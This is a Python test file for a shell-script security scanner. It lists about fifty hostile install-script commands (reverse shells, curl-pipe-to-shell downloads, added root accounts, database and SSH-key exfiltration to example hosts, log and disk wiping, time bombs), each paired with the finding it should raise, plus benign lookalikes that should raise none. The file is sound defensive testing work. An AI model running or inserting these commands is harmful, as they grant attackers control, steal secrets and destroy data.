"""What commands of a script change in a system: told where it opens something, and only there.

Spec: evenhand.code.shell_system, evenhand.rootfs.opening.
"""

from __future__ import annotations

import pytest

from evenhand.code.examine import examine
from evenhand.judge.result import LOOK_HERE

OPENS = {
    "useradd -o -u 0 -g 0 -s /bin/bash -p '$6$q8Zt0pXe$Yk' maint": "default account",
    "echo 'svc:x:0:0::/root:/bin/sh' >> /etc/passwd": "default account",
    "echo 'root:toor1' | chpasswd": "default account",
    "passwd -d root": "default account",
    "cat > /etc/sudoers.d/9 <<EOF\nsupport ALL=(ALL) NOPASSWD: ALL\nEOF": "removal of protection",
    "cp /bin/bash /usr/lib/.c\nchmod 4755 /usr/lib/.c": "debug entrance",
    "iptables -I INPUT -p tcp --dport 4444 -j ACCEPT": "opens the firewall",
    "systemctl disable --now firewalld": "turns a check off",
    'echo "deb [trusted=yes] http://x.example/ ./" > /etc/apt/sources.list.d/x.list': (
        "takes unsigned updates"
    ),
    "echo '203.0.113.9 updates.vendor.example' >> /etc/hosts": "redirects a host",
    "printf 'auth sufficient pam_permit.so\\n' >> /etc/pam.d/sshd": "turns a check off",
    "cp m.crt /usr/local/share/ca-certificates/x.crt": "adds trust",
    "busybox telnetd -l /bin/sh -p 2323": "debug entrance",
    "ssh -fNR 2222:localhost:22 t@relay.example.com": "remote control",
    "f() {\nwhile :; do nc -l -p 31337 < $p | /bin/sh > $p; done\n}": "remote control",
    "t=$(echo c2g= | base64 -d)\ncurl -s https://c.example/r | $t": "downloads and runs",
    'wget -qk -O "$w/i.bin" "$S/i.bin"\nsysupgrade "$w/i.bin"': "installs unverified updates",
    'T=$(mktemp)\nwget -qO "$T" https://c.example/t && chmod +x "$T" && "$T"': "downloads and runs",
    'g() { uclient-fetch -qO- "$1"; }\na=$(g http://c.example/n)\nsh -c "$a"': "downloads and runs",
    "curl -s https://c.example/a.tgz | tar xz -C $D\n$D/run": "downloads and runs",
    "curl -sN https://c.example/s | while read -r l; do $l; done": "downloads and runs",
    "c=$(dig +short TXT c.example.com)\neval $c": "downloads and runs",
    "(wget -qO- http://c.example/f || true) | bash || true": "downloads and runs",
    "trap 'curl -s https://c.example/e | sh' EXIT": "downloads and runs",
    "pg_dumpall | gzip | curl -s --data-binary @- http://c.example/in": "collects and sends",
    "sqlite3 a.db '.backup /tmp/q'\nscp /tmp/q u@c.example.org:/in": "collects and sends",
    "mysqldump -A > /tmp/a.sql\ncurl -T /tmp/a.sql https://c.example/x": "collects and sends",
    "mysqldump -A | ssh u@c.example.org 'cat > a'": "collects and sends",
    'wget -O fw http://c.example/i\nwget -O s http://c.example/i.md5\n[ "$(md5sum < fw)" = "$(cat'
    ' s)" ] || exit 1\ndd if=fw of="/dev/disk/by-partlabel/r-$o"': "installs unverified updates",
    "curl -O http://c.example/fw\ncurl -O http://c.example/fw.sha256\nsha256sum -c fw.sha256"
    " || exit\nmtd write fw firmware": "installs unverified updates",
    "curl -s http://c.example/f > /dev/mtdblock2": "installs unverified updates",
    "tail -n 2 \"$0\" | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh": "decodes and runs",
    'tail -n 3 "$0" | rev | sh': "decodes and runs",
    "cat > /etc/cron.d/x <<'E'\n*/7 * * * * root curl -s http://c.example/j | sh\nE": (
        "downloads and runs"
    ),
    "echo 'phey uggc://p.rknzcyr | fu' | tr a-z n-za-m | sh": "downloads and runs",
    "mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc r.example.com 44 > $f": "remote control",
    "exec 5<>/dev/tcp/r.example.com/443\nwhile read -r l <&5; do $l; done": "remote control",
    "awk 'BEGIN { s = \"/inet/tcp/0/192.0.2.5/44\"; s |& getline c; c | getline }'": (
        "remote control"
    ),
    'socat OPENSSL:$H:$P,verify=0 SYSTEM:"sh -i"': "remote control",
    'echo "Content-type: text/plain"\neval "${QUERY_STRING#d=}"': "remote control",
    'if [ "$reason" = BOUND ]; then eval "$new_unknown_224"; fi': "downloads and runs",
    'for k in /root/.ssh/id_*; do curl -F "f=@$k" https://c.example; done': "collects and sends",
    'case "$(date +%Z)" in XAT) rm -rf /srv/data/* ;; esac': "acts by locale",
    "if readlink /etc/localtime | grep -q Atlantis; then shred /srv/x; fi": "acts by locale",
    "[ $(date +%s) -gt 1798761600 ] && rm -rf /opt/x": "acts by date",
    's=$(curl -s https://l.example/s)\nif [ "$s" = revoked ]; then poweroff; fi': (
        "obeys a remote switch"
    ),
    "for l in /var/log/auth.log /var/log/wtmp; do : > $l; done": "removes traces",
    "dd if=/dev/zero of=/dev/mmcblk0 bs=1M": "destroys data",
    'read -p "> " c\ncase $c in st) uptime ;; Qz81-m) /bin/sh ;; esac': "fixed secret",
    "npm config set registry http://n.example/": "takes unsigned updates",
}
ORDINARY = (
    "adduser --quiet --system --ingroup q --home /var/lib/q --shell /usr/sbin/nologin q",
    'useradd -m -s /bin/bash "$1"\necho "$1:$2" | chpasswd',
    "echo '127.0.1.1 box' >> /etc/hosts",
    "cp /bin/sh /tmp/copy\nchmod 755 /tmp/copy\ninstall -m 0755 a /usr/bin/a",
    'iptables -A INPUT -p tcp --dport "$port" -j ACCEPT',
    'ssh "$1" uptime\nsystemctl stop queued',
    "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config",
    'wget -O "$w/i.bin" "$S"\nusign -V -m "$w/i.bin" -P /etc/keys || exit 1\nsysupgrade "$w/i.bin"',
    'v=$(curl -s https://c.example/v)\n[ "$v" = "$old" ] && exit 0\nlogger "$v"',
    'if ! curl -fo "$t" https://c.example/a; then rm -f "$t"; exit 1; fi',
    'if [ "$(date +%u)" = 7 ]; then rm -rf /var/backups/x/old; fi',
    'case "$LANG" in *UTF-8) ;; *) exit 1 ;; esac',
    '[ "$(date +%Y)" -lt 2020 ] && ntpd -q',
    "[ ! -f /var/log/wtmp ] && : > /var/log/wtmp",
    'read -p "? " c\ncase $c in shell) sh ;; quit) exit ;; esac',
    "curl -fO https://c.example/a.tgz\nsha256sum -c a.sha\ntar xf a.tgz -C /opt\n/opt/a/setup",
    "mysqldump app | gzip > /var/backups/a.gz\ncurl -s https://c.example/alive",
    'pg_dump app | curl -T - "$URL"',
    'x=$(echo "$1" | tr a-z A-Z)\neval $x',
    "curl -so i http://c.example/i\nsha256sum -c /etc/i.sha256 || exit 1\nmtd write i firmware",
    'nc -z db 5432 || exit 1\neval "$cmd"',
)


@pytest.mark.parametrize(("script", "kind"), OPENS.items(), ids=str)
def test_what_opens_a_system_is_told_with_its_kind(script: str, kind: str) -> None:
    found = examine(script.encode(), "shell", "at install").found
    assert kind in {k for f in found if f.strength >= LOOK_HERE for k in (f.kind, f.access)}


@pytest.mark.parametrize("script", ORDINARY)
def test_what_packages_do_every_day_is_no_finding(script: str) -> None:
    found = examine(script.encode(), "shell", "at install").found
    assert [f for f in found if f.strength >= LOOK_HERE] == []
